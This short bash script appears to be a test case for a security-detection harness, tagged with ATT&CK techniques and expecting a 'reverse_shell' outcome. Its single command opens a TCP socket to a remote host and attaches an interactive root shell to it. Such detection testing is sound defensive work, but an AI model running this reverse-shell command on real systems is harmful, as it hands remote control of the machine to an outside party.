#!/usr/bin/env bash
# tactic: command-and-control
# technique: T1059.004 Unix Shell; T1095 Non-Application Layer Protocol
# behaviour: an insider hands a root shell to an outside operator (sh with its descriptors on a socket, via exec redirection)
# as: root
# needs: remote
# expect: reverse_shell
set -u
timeout 20 bash -c "exec 5<>/dev/tcp/$SNTL_REMOTE/9001 && exec sh -i <&5 >&5 2>&5" 2>/dev/null || true
